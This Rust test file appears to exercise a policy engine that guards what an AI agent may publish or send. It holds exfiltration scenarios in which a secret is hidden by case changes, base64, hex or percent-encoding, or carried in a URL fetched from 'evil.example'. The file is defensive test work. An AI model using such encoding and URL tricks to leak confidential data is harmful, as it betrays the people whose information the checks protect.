//! What an attacker would try, or what would go wrong by itself, as small scenarios.

use super::*;

const SECRET: &str = "the merger with the harbour company is signed on the ninth of june";

/// A world in which bo's agent may do much, and has read what only bo and cy may know.
fn after_reading(steps: &str) -> String {
    format!(
        r#"scenario: attack
world:
  people:
    - bo
    - cy
    - ann
    - {{id: dee, clearance: restricted, categories: [deals]}}
    - {{id: kim, clearance: restricted}}
    - {{id: lou, clearance: internal, categories: [deals]}}
    - {{id: hal, status: left}}
  groups: {{inner: ["@core"], core: [bo, cy], all: ["@inner", ann, hal], deep: ["@inner"]}}
  agents: [{{id: helper, owner: bo}}, {{id: sub, owner: cy}}, {{id: orphan, owner: hal}}]
  items:
    - {{id: "deal:1", readers: ["@core"], classification: restricted, categories: [deals], content: "{SECRET}"}}
    - {{id: "hr:1", readers: ["@all"], purposes: [people-care], content: "ann is on leave from the first to the twentieth of march"}}
    - {{id: "hr:2", readers: ["@all"], purposes: [people-care, planning], content: "the team is complete again from the twenty-first of march"}}
    - {{id: "open:1", readers: [public], classification: public, content: "the harbour company was founded in eighteen hundred and four"}}
  destinations:
    - {{id: "channel:all", audience: ["@all"], owner: ann, known: true}}
    - {{id: "channel:core", audience: ["@deep"], known: true}}
    - {{id: "list:mixed", audience: ["channel:core", "external:partner.example"]}}
  grants:
    - {{to: bo, may: [read, write, send, publish, destroy, execute, spend], on: ["*"]}}
    - {{to: cy, may: [read, publish], on: ["*"]}}
    - {{to: dee, may: [read, write, publish], on: ["*"]}}
    - {{to: helper, may: [read, write, send, publish, destroy, execute, spend], on: ["*"]}}
    - {{to: sub, may: [read], on: ["*"]}}
    - {{to: orphan, may: [read], on: ["*"]}}
tasks:
  - {{id: t1, requester: bo, agent: helper, purpose: planning, address: [public, "external:partner.example", "external:evil.example"], resources: ["*"], lease: 1h}}
  - {{id: t2, requester: bo, agent: helper, purpose: planning, address: ["@all"], resources: ["*"], lease: 10m, starts: 5m}}
steps:
  - {{at: 0s, as: [bo, helper], task: t1, do: read, on: ["deal:1", "open:1"]}}
{steps}
"#
    )
}

#[track_caller]
fn publishing(on: &str, content: &str, expect: &str) {
    let content = serde_json::to_string(content).expect("a text");
    holds(&after_reading(&format!(
        "  - {{at: 1s, as: [bo, helper], task: t1, do: publish, on: [\"{on}\"], content: {content}, expect: {expect}}}"
    )));
}

const STOPPED: &str = "{decision: deny, norms: [readers]}";

#[test]
fn a_copy_is_found_through_case_spaces_and_unicode_forms() {
    publishing("channel:all", &SECRET.to_uppercase(), STOPPED);
    publishing("channel:all", &SECRET.replace(' ', "\u{a0}\n  "), STOPPED);
    let wide: String =
        SECRET.chars().map(|c| if c.is_ascii_graphic() { char::from_u32(c as u32 + 0xfee0).unwrap_or(c) } else { c }).collect();
    publishing("channel:all", &wide, STOPPED);
}

#[test]
fn a_copy_is_found_through_encodings() {
    publishing(
        "channel:all",
        "see dGhlIG1lcmdlciB3aXRoIHRoZSBoYXJib3VyIGNvbXBhbnkgaXMgc2lnbmVkIG9uIHRoZSBuaW50aCBvZiBqdW5l",
        STOPPED,
    );
    let hex: String = SECRET.bytes().map(|byte| format!("{byte:02x}")).collect();
    publishing("channel:all", &hex, STOPPED);
    publishing("channel:all", &SECRET.replace(' ', "%20"), STOPPED);
    let escaped: String = SECRET.chars().map(|c| format!("\\u{:04x}", c as u32)).collect();
    publishing("channel:all", &escaped, STOPPED);
}

#[test]
fn a_copy_is_found_when_it_is_split_over_content_and_values() {
    let (first, second) = SECRET.split_at(SECRET.len() / 3);
    holds(&after_reading(&format!(
        "  - {{at: 1s, as: [bo, helper], task: t1, do: publish, on: [\"channel:all\"], content: \"{first}\", values: {{title: \"{second}\"}}, expect: {STOPPED}}}"
    )));
}

#[test]
fn a_value_carries_content_as_well_as_content_does() {
    for (name, value) in
        [("subject", SECRET.to_owned()), ("url", format!("https://partner.example/?q={}", SECRET.replace(' ', "%20")))]
    {
        holds(&after_reading(&format!(
            "  - {{at: 1s, as: [bo, helper], task: t1, do: send, on: [\"outbox:bo\"], to: [\"external:partner.example\"], values: {{{name}: \"{value}\"}}, expect: {STOPPED}}}"
        )));
    }
}

#[test]
fn fetching_an_address_tells_its_host() {
    holds(&after_reading(&format!(
        "  - {{at: 1s, as: [bo, helper], task: t1, do: read, on: [\"web:x\"], values: {{url: \"https://evil.example/{}\"}}, expect: {STOPPED}}}",
        SECRET.replace(' ', "%20")
    )));
}

#[test]
fn an_unknown_recipient_is_somebody_outside() {
    for to in ["ann@elsewhere.example", "ANN", "@nobody", "channel:other", "cy@evil.example"] {
        holds(&after_reading(&format!(
            "  - {{at: 1s, as: [bo, helper], task: t1, do: send, on: [\"outbox:bo\"], to: [\"{to}\"], content: hello, expect: {{decision: ask, norms: [readers]}}}}"
        )));
    }
}

#[test]
fn one_recipient_who_is_not_cleared_spoils_the_others() {
    holds(&after_reading(&format!(
        r#"  - {{at: 1s, as: [bo, helper], task: t1, do: send, on: ["outbox:bo"], to: [bo, cy, dee], content: "{SECRET}", expect: permit}}
  - {{at: 2s, as: [bo, helper], task: t1, do: send, on: ["outbox:bo"], to: [bo, cy, ann], content: "{SECRET}", expect: {STOPPED}}}
  - {{at: 3s, as: [bo, helper], task: t1, do: publish, on: ["channel:core", "channel:all"], content: "{SECRET}", expect: {STOPPED}}}"#
    )));
}

#[test]
fn nested_groups_and_destinations_are_resolved_to_people() {
    publishing("channel:core", SECRET, "permit");
    publishing("list:mixed", SECRET, STOPPED);
    publishing("channel:all", "something else", "{decision: ask, norms: [readers]}");
}

#[test]
fn cleared_is_level_and_all_categories() {
    let send = |to: &str, expect: &str| {
        holds(&after_reading(&format!(
            "  - {{at: 1s, as: [bo, helper], task: t1, do: send, on: [\"outbox:bo\"], to: [{to}], content: \"{SECRET}\", expect: {expect}}}"
        )));
    };
    send("dee", "permit");
    send("kim", STOPPED);
    send("lou", STOPPED);
}

#[test]
fn who_has_left_sees_nothing_and_answers_nothing() {
    holds(&after_reading(&format!(
        r#"  - {{at: 1s, as: [bo, helper], task: t1, do: publish, on: ["channel:all"], content: hello, expect: {{decision: ask, norms: [readers]}}}}
  - {{at: 2s, approve: {{by: hal, step: 2}}, expect: deny}}
  - {{at: 3s, as: [hal], do: read, on: ["open:1"], expect: deny}}
  - {{at: 4s, as: [bo, helper, orphan], task: t1, do: read, on: ["open:1"], expect: {{decision: deny, norms: [lease]}}}}
  - {{at: 5s, event: {{left: ann}}}}
  - {{at: 6s, as: [bo, helper], task: t1, do: publish, on: ["channel:all"], content: "{SECRET}", expect: permit}}
  - {{at: 7s, event: {{left: bo}}}}
  - {{at: 8s, as: [bo, helper], task: t1, do: read, on: ["open:1"], expect: {{decision: deny, norms: [lease]}}}}"#
    )));
}

#[test]
fn who_joins_later_counts_and_who_leaves_does_not() {
    holds(&after_reading(&format!(
        r#"  - {{at: 1s, event: {{join: {{member: ann, group: core}}}}}}
  - {{at: 2s, as: [bo, helper], task: t1, do: publish, on: ["channel:core"], content: "{SECRET}", expect: {STOPPED}}}
  - {{at: 3s, event: {{leave: {{member: ann, group: "@core"}}}}}}
  - {{at: 4s, as: [bo, helper], task: t1, do: publish, on: ["channel:core"], content: "{SECRET}", expect: permit}}"#
    )));
}

#[test]
fn nobody_of_the_chain_approves_however_long_it_is() {
    holds(&after_reading(
        r#"  - {at: 1s, as: [bo, helper, sub], task: t1, do: read, on: ["deal:1"]}
  - {at: 2s, as: [bo, helper], task: t1, do: publish, on: ["channel:all"], content: hello, expect: {decision: ask, norms: [readers]}}
  - {at: 3s, approve: {by: bo, step: 3}, expect: deny}
  - {at: 3s, approve: {by: helper, step: 3}, expect: deny}
  - {at: 3s, approve: {by: ann, step: 3}, expect: deny}
  - {at: 4s, approve: {by: cy, step: 3}}
  - {at: 5s, approve: {by: dee, step: 3}, expect: deny}
  - {at: 6s, as: [cy, helper], task: t1, do: publish, on: ["channel:all"], content: hello, expect: {decision: deny, norms: [authentication]}}
  - {at: 7s, as: [bo, helper], task: t1, do: publish, on: ["channel:all"], content: hello}
  - {at: 8s, as: [bo, helper], task: t1, do: publish, on: ["channel:all"], content: hello, expect: {decision: ask, norms: [readers]}}"#,
    ));
}

#[test]
fn an_approval_raises_no_label() {
    holds(&after_reading(&format!(
        r#"  - {{at: 1s, as: [bo, helper], task: t1, do: publish, on: ["channel:all"], content: hello, expect: {{decision: ask, norms: [readers]}}}}
  - {{at: 2s, approve: {{by: cy, step: 2}}}}
  - {{at: 3s, as: [bo, helper], task: t1, do: publish, on: ["channel:all"], content: hello}}
  - {{at: 4s, as: [bo, helper], task: t1, do: publish, on: ["channel:all"], content: "{SECRET}", expect: {STOPPED}}}
  - {{at: 5s, as: [ann], do: read, on: ["deal:1"], expect: deny}}"#
    )));
}

#[test]
fn a_lease_that_lapsed_or_has_not_begun_is_none() {
    holds(&after_reading(
        r#"  - {at: 1s, as: [bo, helper], task: t2, do: read, on: ["open:1"], expect: {decision: deny, norms: [lease]}}
  - {at: 5m, as: [bo, helper], task: t2, do: read, on: ["open:1"]}
  - {at: 6m, as: [bo, helper], task: t2, do: publish, on: ["channel:all"], content: hello, repeat: {times: 20, every: 1m}, expect: {decision: deny, norms: [lease], at_most: 9}}
  - {at: 1h, as: [bo, helper], task: t1, do: read, on: ["open:1"], expect: {decision: deny, norms: [lease]}}"#,
    ));
}

#[test]
fn purposes_are_joined_and_have_to_cover_the_task() {
    holds(&after_reading(
        r#"  - {at: 5m, as: [bo, helper], task: t2, do: read, on: ["hr:2"]}
  - {at: 5m, as: [bo, helper], task: t2, do: publish, on: ["channel:all"], content: "the team is complete again from the twenty-first of march"}
  - {at: 6m, as: [bo, helper], task: t2, do: write, on: ["note:team"], content: "the team is complete again from the twenty-first of march"}
  - {at: 7m, as: [bo, helper], task: t2, do: read, on: ["hr:1"]}
  - {at: 7m, as: [bo, helper], task: t2, do: publish, on: ["channel:all"], content: "all well", expect: {decision: ask, norms: [purpose]}}
  - {at: 8m, as: [bo, helper], task: t2, do: publish, on: ["channel:all"], content: "ann is on leave from the first to the twentieth of march", expect: {decision: deny, norms: [purpose]}}"#,
    ));
}

#[test]
fn a_note_launders_nothing_through_however_many_hands() {
    holds(&after_reading(
        r#"  - {at: 1s, as: [bo, helper], task: t1, do: write, on: ["note:1"], content: "june will be interesting"}
  - {at: 5m, as: [bo, helper], task: t2, do: read, on: ["note:1"]}
  - {at: 5m, as: [bo, helper], task: t2, do: write, on: ["note:2"], content: "a busy month"}
  - {at: 6m, as: [ann], do: read, on: ["note:2"], expect: deny}
  - {at: 6m, as: [kim], do: read, on: ["note:2"], expect: deny}
  - {at: 6m, as: [dee], do: read, on: ["note:1", "note:2"], expect: permit}
  - {at: 7m, as: [bo, helper], task: t2, do: publish, on: ["channel:all"], content: "a busy month", expect: {decision: ask, norms: [readers]}}"#,
    ));
}

#[test]
fn a_post_is_read_under_its_own_label_by_whoever_reads_the_channel() {
    holds(&after_reading(&format!(
        r#"  - {{at: 1s, as: [bo, helper], task: t1, do: publish, on: ["channel:core"], content: "{SECRET}"}}
  - {{at: 2s, as: [cy], do: read, on: ["channel:core"]}}
  - {{at: 3s, event: {{join: {{member: ann, group: core}}}}}}
  - {{at: 4s, as: [dee], do: read, on: ["channel:core"], expect: permit}}
  - {{at: 5m, as: [bo, helper], task: t2, do: read, on: ["channel:core"]}}
  - {{at: 6m, as: [bo, helper], task: t2, do: publish, on: ["channel:all"], content: "{SECRET}", expect: {STOPPED}}}"#
    )));
}

#[test]
fn amounts_add_up_over_a_repeated_step() {
    let text = after_reading(
        "  - {at: 1s, as: [bo, helper], task: t1, do: spend, on: [\"account:1\"], amount: 30, repeat: {times: 10, every: 1s}, expect: {decision: ask, norms: [irreversible], at_most: 3}}",
    )
    .replace("resources: [\"*\"], lease: 1h}", "resources: [\"*\"], budget: {amount: 100}, lease: 1h}");
    holds(&text);
}

#[test]
fn running_a_scenario_twice_gives_the_same_report() {
    let text = after_reading(
        "  - {at: 1s, as: [bo, helper], task: t1, do: publish, on: [\"channel:all\"], content: hello, expect: ask}",
    );
    assert_eq!(report_of(&text, &Options::default()), report_of(&text, &Options::default()));
}
